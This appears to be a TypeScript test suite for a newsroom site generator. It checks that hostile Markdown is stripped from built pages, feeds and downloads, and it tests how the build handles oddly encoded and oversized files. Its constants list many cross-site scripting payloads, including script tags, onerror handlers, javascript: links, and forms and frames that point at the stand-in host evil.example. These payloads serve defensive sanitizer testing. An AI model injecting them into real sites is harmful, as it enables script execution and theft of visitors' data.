import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { eventFile, factCheckFile, foundNewsroom, pressFile } from '../own-newsroom.ts';
import { elementsOf, elementsOfFragment, parsePage, type Element } from '../page-tree.ts';
import { copyProject, type Outcome, type ProjectCopy } from '../workbench.ts';
import { pagesOf } from './built-site.ts';

/** What somebody with a stolen account would try, in Markdown. */
const ATTEMPTS = [
  '<script>alert(1)</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', 'text <img src=x onerror=alert(1)> text', '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<iframe src="https://evil.example/"></iframe>', '<form action="https://evil.example/"><input name=p><button>Go</button></form>', '<style>body{display:none}</style>', '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">', '<link rel=stylesheet href="https://evil.example/a.css">', '<object data="https://evil.example/"></object>', '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
  '<a href="javascript:alert(1)">a</a>', '<div style="position:fixed;inset:0">cover</div>', '<template><script>alert(1)</script></template>', '<!-- --><script>alert(1)</script>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '[a](javascript:alert(1))', '[a](JaVaScRiPt:alert(1))', '[a](&#106;avascript:alert(1))', '[a](<java\tscript:alert(1)>)', '[a](data:text/html;base64,PHNjcmlwdD4=)', '[a](vbscript:msgbox(1))', '[a](//evil.example/)', '[a][r]\n\n[r]: javascript:alert(1)',
  '<javascript:alert(1)>', '<https://good.example/?q="onmouseover="alert(1)>', '[a](https://good.example/ "x\\" onmouseover=alert(1)")', '`<script>alert(1)</script>`', '```html\n<script>alert(1)</script>\n```', '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '# A second heading of the first level', '<h1>And a third</h1>', '</article></main></body></html><script>alert(1)</script>',
];
const MARKUP = '</script><script>alert(1)</script><img src=x onerror=alert(1)>"\' onload=alert(1)';

let copy: ProjectCopy;
let outcome: Outcome;
beforeAll(async () => {
  copy = await copyProject({ content: 'none' });
  await foundNewsroom(copy);
  const words = { title: `Title ${MARKUP}`, summary: `Summary ${MARKUP}` };
  await copy.write('content/press/hostile/index.nl.md', pressFile({
    ...words, place: `Place ${MARKUP}`.slice(0, 60), notes: ATTEMPTS.map((attempt) => attempt.replaceAll('\n', ' ')), quotes: [{ text: MARKUP, by: MARKUP, role: MARKUP, consent: 'public-role' }],
    updated: '2026-11-22T12:00:00+01:00', corrections: [{ at: '2026-11-22T12:00:00+01:00', text: MARKUP }],
  }, ATTEMPTS.join('\n\n')));
  await copy.write('content/fact-checks/hostile/index.nl.md', factCheckFile({
    ...words, finding: MARKUP, claim: { text: `Claim ${MARKUP}`, by: MARKUP, date: '2026-11-10', place: 'Havenstad', appearances: [{ url: 'https://good.example/"><script>alert(1)</script>', archived: 'https://good.example/\'onload=alert(1)' }] },
    verdict: 'correct', evidence: [{ title: MARKUP, publisher: MARKUP, url: 'https://good.example/"><script>alert(1)</script>', archived: 'https://good.example/', accessed: '2026-11-12' }],
  }, ATTEMPTS.join('\n\n')));
  await copy.write('content/events/hostile/index.nl.md', eventFile({ ...words, where: MARKUP, series: MARKUP.slice(0, 80), guests: [{ name: MARKUP.slice(0, 80), role: MARKUP }], recording: { url: 'https://good.example/w/a"><script>alert(1)</script>' } }, ATTEMPTS.join('\n\n')));
  await copy.write('content/press/byte-order-mark/index.nl.md', Buffer.from(`\uFEFF${pressFile({ title: 'Written on an old computer' })}`.replaceAll('\n', '\r\n')));
  await copy.write('content/press/other-letters/index.nl.md', Buffer.from(`\uFEFF${pressFile()}`, 'utf16le'));
  await copy.write('content/press/far-too-long/index.nl.md', Buffer.alloc(10_000_000, 'a'));
  outcome = await copy.build();
});
afterAll(() => copy.discard());

describe('A story full of traps', () => {
  test('is published all the same', () => {
    expect(outcome.code).toBe(0);
    for (const path of ['press/hostile/', 'press/hostile/desk/', 'press/hostile/kit/', 'fact-checks/hostile/kit/', 'fact-checks/hostile/', 'events/hostile/', 'events/hostile/watch/']) expect(existsSync(join(copy.client, 'nl', path, 'index.html')), path).toBe(true);
  });

  test('adds no program, frame, form, style or door to any page', () => {
    for (const page of pagesOf(copy.client)) {
      expect(trapsIn(page.elements, ownProgramsOf(page.path)), page.path).toEqual([]);
      expect(page.elements.filter(({ name }) => name === 'style'), page.path).toHaveLength(1);
    }
  });

  test('leaves every page with one heading and its own end', () => {
    for (const page of pagesOf(copy.client)) {
      expect(page.elements.filter(({ name }) => name === 'h1'), page.path).toHaveLength(1);
      expect(page.html.trimEnd().endsWith('</html>') && page.html.match(/<\/html>/g)?.length === 1, page.path).toBe(true);
    }
  });

  test('adds nothing to feeds, data for search engines, texts and zips either', () => {
    for (const item of JSON.parse(readFileSync(join(copy.client, 'nl/feed.json'), 'utf8')).items) expect(trapsIn(elementsOfFragment(item.content_html)), item.url).toEqual([]);
    for (const path of ['press/hostile', 'fact-checks/hostile', 'events/hostile']) {
      const html = readFileSync(join(copy.client, 'nl', path, 'index.html'), 'utf8');
      const [data] = elementsOf(parsePage(html)).filter(({ attributes }) => attributes['type'] === 'application/ld+json');
      expect(JSON.stringify(JSON.parse(data!.text)), path).toContain('</script><script>alert(1)</script>');
    }
    expect(Object.keys(unzipSync(readFileSync(join(copy.client, 'nl/press/hostile/hostile-nl.zip'))))).toEqual(['hostile-nl.txt']);
  });

  test('is reported to the newsroom with file and line', () => {
    expect(outcome.said).toMatch(/content\/press\/hostile\/index\.nl\.md, line \d+\n {2}HTML \(“<script>alert\(1\)<\/script>”\) is not shown\./);
    expect(outcome.said).toMatch(/content\/press\/hostile\/index\.nl\.md, line \d+\n {2}The link to “javascript:alert\(1\)” leads to no web page\./);
  });
});

describe('The search for traps', () => {
  test.each(ATTEMPTS.filter((attempt) => /^<(script|svg|iframe|form|style|meta|base|link|object|math|a |div|template)/i.test(attempt)))('would see %s', (attempt) => {
    expect(trapsIn(elementsOfFragment(attempt)).length).toBeGreaterThan(0);
  });
});

describe('A file', () => {
  test('with a byte order mark and the line ends of another system is read like any other', () => {
    expect(readFileSync(join(copy.client, 'nl/press/byte-order-mark/index.html'), 'utf8')).toContain('Written on an old computer');
  });

  test('in UTF-16 is refused by name, with what to do', () => {
    expect(outcome.said).toContain('content/press/other-letters/index.nl.md\n  The file is written in UTF-16. Open it in your editor and save it again as UTF-8.');
  });

  test('of 10 MB is refused by name', () => {
    expect(outcome.said).toContain('content/press/far-too-long/index.nl.md\n  The file has 10.0 MB; a text may have 1 MB.');
    expect(existsSync(join(copy.client, 'nl/press/far-too-long'))).toBe(false);
  });
});

/** Scripts and frames that a page of ours has by itself. */
function ownProgramsOf(path: string): RegExp {
  if (path.endsWith('/watch/')) return /^<iframe src="https:\/\/good\.example\/videos\/embed\/|^<form|^<input|^<button/;
  if (path.endsWith('/kit/')) return /^<script type="module" src="(\/_astro\/[^"]+)?"|^<(button|svg)/;
  return /\/(search|desk)\/$/.test(path) ? /^<script type="module" src="(\/_astro\/[^"]+)?"|^<(form|input|button)/ : /^$/;
}

/** Everything in a page that runs, loads, covers or sends; but not what the page has by itself. */
function trapsIn(elements: readonly Element[], own = /^$/): string[] {
  return elements.flatMap((element) => {
    const { name, attributes, parent, text } = element;
    const shown = `<${name}${name === 'script' ? ` type="${attributes['type'] ?? ''}"` : ''} src="${attributes['src'] ?? ''}"`;
    const traps: string[] = [];
    if (/^(script|iframe|frame|form|input|button|textarea|select|object|embed|base|svg|math|template|applet|portal)$/.test(name)) {
      const data = name === 'script' && attributes['type'] === 'application/ld+json';
      const facade = name === 'svg' && parent?.attributes['class'] === 'facade';
      if (!data && !facade && (!own.test(shown) || text.includes('alert('))) traps.push(shown);
    }
    if (name === 'style' && parent?.name !== 'head') traps.push(shown);
    if (name === 'meta' && /refresh/i.test(attributes['http-equiv'] ?? '')) traps.push(shown);
    if (name === 'link' && parent?.name !== 'head') traps.push(shown);
    for (const [key, value] of Object.entries(attributes)) {
      if (/^on/.test(key) || key === 'style' || key === 'srcdoc' || key === 'formaction') traps.push(`${shown} ${key}`);
      if (/^(href|src|action|data|poster|xlink:href)$/.test(key) && !/^(https?:\/\/(?!evil)|mailto:|tel:|\/(?!\/)|#)/i.test(value) && value !== '') traps.push(`${shown} ${key}=${value}`);
    }
    return traps;
  });
}
